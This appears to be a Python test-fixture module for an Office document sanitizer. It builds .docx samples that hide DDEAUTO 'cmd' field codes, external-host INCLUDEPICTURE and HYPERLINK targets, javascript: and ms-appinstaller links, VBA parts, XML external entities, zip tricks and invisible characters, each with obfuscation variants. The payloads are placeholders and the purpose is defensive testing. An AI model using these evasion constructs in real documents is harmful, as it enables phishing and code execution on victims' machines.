"""Word once more: forbidden things written so that one reader sees them and another does not."""

import io
import zipfile
from collections.abc import Callable

from tests.engines.sanitize.samples import MARK, Sample
from tests.engines.sanitize.samples.packages import OFFICE, Book
from tests.engines.sanitize.samples.words import (
    DRAWING,
    MAIN,
    MC,
    MICROSOFT,
    NS,
    SETTINGS,
    SHOWN,
    TYPE,
    alternatives,
    boxed,
    complex_field,
    document,
    fielded,
    linked,
    mark,
    merged,
    old_picture,
    outside,
    paragraph,
    picture,
    pictured,
    plain,
    text_box,
    with_part,
)


def _s(
    vector: str,
    make: Callable[[], bytes],
    twin: Callable[[], bytes] = plain,
    expected: str = "delivered",
    name: str = "a.docx",
) -> Sample:
    return Sample(vector, name, make, twin, expected)


def _code(text: str, kind: str = "instrText") -> str:
    return f'<w:r><w:{kind} xml:space="preserve">{text}</w:{kind}></w:r>'


def _field(code: str) -> str:
    return f"{mark('begin')}{code}{mark('separate')}{SHOWN}{mark('end')}"


def _story(inside: str) -> str:
    """A text box: its paragraphs are a story of their own, whatever stands around it."""
    return f'<w:r><w:pict><v:shape id="s1"><v:textbox><w:txbxContent>{paragraph(inside)}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>'


def _crossed(filling: str) -> Callable[[], bytes]:
    """A code that is DATE with its filling and DDEAUTO without it."""
    return lambda: document(
        paragraph(_field(_code(" D") + filling + _code(f"DEAUTO cmd {MARK} ")))
    ).bytes()


def _between_stories() -> bytes:
    """A field begun in the body and ended in a text box."""
    code = mark("begin") + _code(f" DDEAUTO cmd {MARK} ")
    return document(paragraph(code + _story(mark("end")) + mark("separate") + SHOWN + mark("end"))).bytes()  # fmt: skip


CONTEXTS = (
    _s("ooxml.field-dde", lambda: document(paragraph(f'<w:fldSimple w:instr=" dDeAuTo cmd {MARK} ">{SHOWN}</w:fldSimple>')).bytes(), fielded),
    _s("ooxml.field-dde", lambda: document(paragraph(f'<w:fldSimple w:instr="&#x44;&#68;EAUTO cmd {MARK}">{SHOWN}</w:fldSimple>')).bytes(), fielded),
    _s("ooxml.field-dde", lambda: document(paragraph(f'<w:fldSimple w:instr="&#9;&#10; DDEAUTO cmd {MARK}">{SHOWN}</w:fldSimple>')).bytes(), fielded),
    _s("ooxml.field-dde", lambda: document(paragraph(_field(_code("DDEAUTO cmd " + MARK, "delInstrText")))).bytes(), fielded),
    _s("ooxml.field-unknown", lambda: document(paragraph(_field("<w:r><w:instrText>D</w:instrText><w:instrText>DEAUTO</w:instrText><w:tab/><w:instrText>cmd " + MARK + "</w:instrText></w:r>"))).bytes(), fielded),
    _s("ooxml.field-dde", lambda: document(paragraph(f'<w:smartTag w:element="x"><w:sdt><w:sdtContent>{complex_field("DDEAUTO cmd " + MARK)}</w:sdtContent></w:sdt></w:smartTag>')).bytes(), fielded),
    _s("ooxml.field-dde", lambda: alternatives(boxed("枠"), complex_field("DDEAUTO cmd " + MARK), "wps"), text_box),
    _s("ooxml.field-context", _crossed(_story(_code("ATE ")))),
    _s("ooxml.field-context", _crossed('<w:del w:id="1" w:author="x">' + _code("ATE ", "delInstrText") + "</w:del>")),
    _s("ooxml.field-context", _crossed('<w:del w:id="1" w:author="x">' + _code("ATE ") + "</w:del>")),
    _s("ooxml.field-context", _crossed('<w:moveFrom w:id="1" w:author="x">' + _code("ATE ") + "</w:moveFrom>")),
    _s("ooxml.field-context", _crossed('<w:ins w:id="1" w:author="x">' + _code("ATE ") + "</w:ins>")),
    _s("ooxml.field-dde", _between_stories, fielded),
    _s("ooxml.field-include", lambda: _noted("footnotes", "footnote", f'INCLUDEPICTURE "http://x.example/{MARK}"'), lambda: _noted("footnotes", "footnote", " PAGE ")),
    _s("ooxml.field-include", lambda: _headed(f'INCLUDEPICTURE "http://x.example/{MARK}" \\d'), lambda: _headed(" PAGE ")),
    _s("ooxml.field-link", lambda: _headed(f"LINK Excel.Sheet.8 {MARK}"), lambda: _headed(" PAGE ")),
    _s("ooxml.field-unknown", lambda: document(paragraph(_field(_code(f' DATE \\@ "x" http://x.example/{MARK}')))).bytes(), fielded),
    _s("ooxml.field-unknown", lambda: document(paragraph(_field(_code(f" TOC \\o file:///{MARK}")))).bytes(), fielded),
    _s("ooxml.field-hyperlink", lambda: document(paragraph(_field(_code(f' HYPERLINK "http://x.example/" "file:///{MARK}"')))).bytes(), fielded),
    _s("ooxml.field-hyperlink", lambda: document(paragraph(_field(_code(f' HYPERLINK  \\m \\n "\\\\x.example\\{MARK}"')))).bytes(), fielded),
    _s("ooxml.field-hyperlink", lambda: document(paragraph(_field(_code(f' HYPERLINK "http:\\\\x.example\\{MARK}"')))).bytes(), fielded),
)  # fmt: skip


def _headed(code: str) -> bytes:
    new = document()
    new.edit(
        MAIN,
        '<w:pgSz w:w="11906"',
        '<w:headerReference w:type="default" r:id="rId9"/><w:pgSz w:w="11906"',
    )
    new.part(
        "word/header1.xml",
        TYPE + "header+xml",
        f"<w:hdr {NS}>{paragraph(_field(_code(code.replace(chr(34), '&quot;'))))}</w:hdr>",
    )
    new.relate(MAIN, "rId9", "header", "header1.xml")
    return new.bytes()  # fmt: skip


def _noted(kind: str, element: str, code: str) -> bytes:
    note = f'<w:{element} w:id="2">{paragraph(_field(_code(code.replace(chr(34), "&quot;"))))}</w:{element}>'
    body = f"<w:{kind} {NS}>{note}</w:{kind}>"
    return with_part(kind, f"word/{kind}.xml", f"{TYPE}{kind}+xml", body, inside=paragraph(f'<w:r><w:{element}Reference w:id="2"/></w:r>'))  # fmt: skip


_TARGETS = (
    "http:\\\\x.example\\",
    "https:////x.example/",
    "https:///x.example/",
    "http:/x.example/",
    "http:x.example/",
    "java&#x0A;script:",
    "ｊavascript:",
    "//x.example/",
    "/..\\..\\x/",
    "smb://x.example/",
    "its:http://x.example/",
    "ms-appinstaller:?source=http://x.example/",
    "mailto:a@x.example?attach=c:\\x&amp;y=",
    "ldap://x.example/",
    "ftp://x.example/",
    "onenote:http://x.example/",
    "vnd.sun.star.script:x?language=Python&amp;y=",
)
_FILL = '<w:r><w:pict><v:shape id="s1" style="width:9pt;height:9pt">{}</v:shape></w:pict></w:r>'


def _drawn(inside: str) -> Callable[[], bytes]:
    return lambda: picture(paragraph(_FILL.format(inside)))


def _blip(extension: str, relation: str, target: str, content_type: str) -> bytes:
    def more(new: Book) -> None:
        new.part(target, content_type, MARK.encode())
        new.relate(MAIN, "rId9", relation, "/" + target)

    return picture(pictured(f'<a:blip r:embed="rId8"><a:extLst><a:ext uri="{{x}}">{extension}</a:ext></a:extLst></a:blip>'), more)  # fmt: skip


def _signed_macro() -> bytes:
    new = document(kind="application/vnd.ms-word.document.macroEnabled.main+xml")
    vba = f"{MICROSOFT}2006/relationships/vbaProject"
    new.part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", MARK.encode())
    new.relate(MAIN, "rId9", vba, "vbaProject.bin")
    new.part(
        "word/vbaProjectSignature.bin",
        "application/vnd.ms-office.vbaProjectSignature",
        MARK.encode(),
    )
    new.relate(
        "word/vbaProject.bin",
        "rId1",
        f"{MICROSOFT}2006/relationships/vbaProjectSignature",
        "vbaProjectSignature.bin",
    )
    return new.bytes()  # fmt: skip


REFERENCES = (
    *(_s("ooxml.hyperlink-scheme", lambda target=target: linked(target + MARK), linked) for target in _TARGETS),
    _s("ooxml.unknown-attribute", lambda: picture(pictured(docpr=f'<a:hlinkClick r:id="" invalidUrl="javascript:{MARK}"/>')), picture),
    _s("ooxml.hyperlink-scheme", lambda: outside("hyperlink", f"file:///{MARK}", pictured(docpr='<a:hlinkHover r:id="rId9"/>')), linked),
    _s("ooxml.external-image", _drawn(f'<v:imagedata src="http://x.example/{MARK}.png"/>'), old_picture),
    _s("ooxml.vml-object", _drawn(f'<v:imagedata r:id="rId8" o:href="http://x.example/{MARK}"/>'), old_picture),
    _s("ooxml.external-image", _drawn(f'<v:imagedata r:id="rId8" r:href="rId9" o:althref="\\\\x\\{MARK}"/>'), old_picture),
    _s("ooxml.external-image", _drawn(f'<v:fill type="tile" src="file:////x/{MARK}"/>'), old_picture),
    _s("ooxml.external-image", _drawn(f'<v:stroke filltype="tile" src="http://x.example/{MARK}"/>'), old_picture),
    _s("ooxml.vml-object", lambda: old_picture(attributes=f'o:onclick="{MARK}"'), old_picture),
    _s("ooxml.vml-object", lambda: old_picture(f'<o:OLEObject Type="Link" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType><o:FieldCodes>{MARK}</o:FieldCodes></o:OLEObject>'), old_picture),
    _s("ooxml.unknown-part", lambda: _blip('<a14:imgProps xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main"><a14:imgLayer r:embed="rId9"/></a14:imgProps>', f"{MICROSOFT}2007/relationships/hdphoto", "word/media/hdphoto1.wdp", "image/vnd.ms-photo"), picture),
    _s("ooxml.unknown-element", lambda: document(paragraph(f'<w:r><w:movie r:id="rId9"/><w:t>{SHOWN[:0]}x</w:t></w:r><w:x>{MARK}</w:x>')).bytes()),
    _s("ooxml.ole", lambda: document(paragraph(f'<w:r><w:object><w:objectEmbed w:progId="{MARK}" r:id="rId9" w:fieldCodes="\\s"/></w:object></w:r>')).bytes()),
    _s("ooxml.ole-link", lambda: outside("oleObject", f"file:///{MARK}", paragraph('<w:r><w:object><w:objectLink w:progId="Word.Document" w:updateMode="always" r:id="rId9"/></w:object></w:r>'))),
    _s("ooxml.external-relationship", lambda: outside("theme", f"http://x.example/{MARK}"), plain),
    _s("ooxml.external-relationship", lambda: outside("header", f"http://x.example/{MARK}"), plain),
    _s("ooxml.external-relationship", lambda: outside("styles", f"http://x.example/{MARK}"), plain),
    _s("ooxml.vba", lambda: outside(f"{MICROSOFT}2006/relationships/vbaProject", f"http://x.example/{MARK}"), plain),
    _s("ooxml.alt-chunk", lambda: outside("aFChunk", f"http://x.example/{MARK}", '<w:altChunk r:id="rId9"/>')),
    _s("ooxml.external-relationship", lambda: outside("officeDocument", f"http://x.example/{MARK}", part="")),
    _s("ooxml.unused-relationship", lambda: _targeted("NULL")),
    _s("ooxml.escaping-target", lambda: _targeted("..%2f..%2f" + MARK)),
    _s("ooxml.escaping-target", lambda: _targeted("C:\\" + MARK)),
    _s("ooxml.mail-merge", lambda: merged('<w:mailMerge><w:headerSource r:id="rId9"/></w:mailMerge>', "mailMergeHeaderSource")),
    _s("ooxml.mail-merge", lambda: with_part("recipientData", "word/recipientData.xml", TYPE + "mailMergeRecipientData+xml", f"<w:recipients {NS}><x>{MARK}</x></w:recipients>", part=SETTINGS)),
    _s("ooxml.attached-template", lambda: merged('<w:attachedTemplate r:id="rId9"/><w:linkStyles/>', target=f"\\\\x.example@SSL\\{MARK}")),
    _s("ooxml.custom-ui", lambda: with_part(f"{MICROSOFT}2006/relationships/ui/userCustomization", "userCustomization/customUI.xml", "application/xml", f"<x>{MARK}</x>", part="")),
    _s("ooxml.web-extension", lambda: with_part(f"{MICROSOFT}2011/relationships/webextension", "word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml", f"<we>{MARK}</we>", part="")),
    _s("ooxml.vba-data", _signed_macro, name="a.docm"),
    _s("ooxml.data-mashup", lambda: _mashed(f"<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>{MARK}</DataMashup>")),
)  # fmt: skip


def _mashed(body: str) -> bytes:
    new = document()
    new.part("customXml/item1.xml", "application/xml", body)
    new.relate(MAIN, "rId9", "customXml", "/customXml/item1.xml")
    return new.bytes()


def _targeted(target: str) -> bytes:
    new = document(paragraph(f"<w:r><w:t>x</w:t></w:r><w:x>{MARK}</w:x>"))
    new.relate(MAIN, "rId9", "image", target)
    return new.bytes()  # fmt: skip


def _rezipped(
    change: Callable[[dict[str, bytes]], dict[str, bytes]], make: Callable[[], bytes] = plain
) -> bytes:
    with zipfile.ZipFile(io.BytesIO(make())) as archive:
        parts = change({name: archive.read(name) for name in archive.namelist()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()  # fmt: skip


def _encoded(encoding: str) -> bytes:
    return _rezipped(
        lambda parts: {
            **parts,
            MAIN: parts[MAIN].decode().replace("UTF-8", encoding).encode(encoding),
        }
    )


def _percent() -> bytes:
    return _rezipped(lambda parts: {**parts, "word/%76baProject.bin": MARK.encode()})


def _ignorable() -> bytes:
    """An element in a namespace told to be ignored, its content told to be processed."""
    inside = f'<q:run xmlns:q="urn:x"><w:fldSimple w:instr="DDEAUTO cmd {MARK}">{SHOWN}</w:fldSimple></q:run>'
    new = document(paragraph(inside))
    new.edit(
        MAIN,
        "<w:document ",
        '<w:document mc:Ignorable="q" mc:ProcessContent="q:run" xmlns:q="urn:x" ',
    )
    return new.bytes()  # fmt: skip


def _understood() -> bytes:
    new = document(paragraph(f'<w:r><w:t>x</w:t></w:r><q:y xmlns:q="urn:x">{MARK}</q:y>'))
    new.edit(MAIN, "<w:document ", '<w:document mc:MustUnderstand="q" xmlns:q="urn:x" ')
    return new.bytes()


def _chosen(first: str, second: str) -> bytes:
    inside = f'<mc:AlternateContent><mc:Choice Requires="w">{first}</mc:Choice><mc:Choice Requires="wps">{second}</mc:Choice><mc:Fallback>{second}</mc:Fallback></mc:AlternateContent>'
    return document(paragraph(inside)).bytes()


def _lettered(text: str) -> Callable[[], bytes]:
    return lambda: document(paragraph(f"<w:r><w:t>{text}</w:t></w:r>")).bytes()


WRITING = (
    _s("xml.encoding", lambda: _encoded("UTF-16")),
    _s("xml.encoding", lambda: _encoded("Shift_JIS"), expected="held"),
    _s("xml.dtd", lambda: _rezipped(lambda parts: {**parts, "[Content_Types].xml": parts["[Content_Types].xml"].replace(b"<Types", b"<!DOCTYPE x [<!ENTITY a 'b'>]><Types")}), expected="held"),
    _s("xml.external-entity", lambda: _rezipped(lambda parts: {**parts, "_rels/.rels": parts["_rels/.rels"].replace(b"<Relationships", b"<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://x.example/a'> %a;]><Relationships")}), expected="held"),
    _s("xml.depth", lambda: document("<w:sdt><w:sdtContent>" * 100_000 + "</w:sdtContent></w:sdt>" * 100_000).bytes(), expected="held"),
    _s("archive.duplicate", lambda: _rezipped(lambda parts: {**parts, "WORD/DOCUMENT.XML": MARK.encode()}), expected="held"),
    _s("ooxml.orphan-part", _percent),
    _s("ooxml.unknown-element", _ignorable, fielded),
    _s("ooxml.unknown-element", _understood),
    _s("ooxml.field-dde", lambda: _chosen(complex_field("DDEAUTO cmd " + MARK), SHOWN), text_box),
    _s("ooxml.field-dde", lambda: _chosen(SHOWN, complex_field("DDEAUTO cmd " + MARK)), text_box),
    _s("text.direction", _lettered("御\u202e案\u2066内")),
    _s("text.invisible", _lettered("御\u200b案\u2062内")),
    _s("text.invisible", _lettered("御\u3164案\u2800内")),
    _s("text.invisible", _lettered("a\U000e0148\U000e0155 会\u200d議")),
    _s("archive.prefix", lambda: b"PK\x07\x08" + MARK.encode() + plain()),
    _s("archive.comment", lambda: _commented(plain())),
)  # fmt: skip


def _commented(data: bytes) -> bytes:
    return data[:-2] + len(MARK).to_bytes(2, "little") + MARK.encode()


SAMPLES = (*CONTEXTS, *REFERENCES, *WRITING)
__all__ = ["DRAWING", "MC", "OFFICE", "SAMPLES"]
